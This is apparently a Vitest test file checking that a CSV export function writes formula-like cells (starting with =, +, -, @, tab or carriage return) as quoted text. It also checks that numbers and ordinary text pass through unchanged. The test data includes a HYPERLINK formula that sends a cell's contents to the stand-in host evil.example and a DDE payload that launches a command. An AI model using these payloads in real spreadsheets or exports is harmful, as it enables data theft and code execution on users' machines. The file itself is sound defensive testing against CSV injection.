import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { toCsv } from './csv-export';

describe('CSV the app writes', () => {
  test('a text cell that a spreadsheet would run as a formula is written as text', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\tindented', '\rreturned'];
    const csv = toCsv(
      ['value', 'count'],
      hostile.map((value, i) => [value, -i]),
    );
    const read = Papa.parse<string[]>(csv).data.slice(1);
    expect(read.map((row) => row[0])).toEqual(hostile.map((value) => `'${value}`));
    // Numbers, negative ones too, stay numbers.
    expect(read.map((row) => row[1])).toEqual(hostile.map((_, i) => String(-i)));
  });

  test('ordinary text, Arabic included, is written as it is', () => {
    expect(toCsv(['name'], [['Amina'], ['أمينة'], ['a=b']])).toBe('name\r\nAmina\r\nأمينة\r\na=b');
  });
});
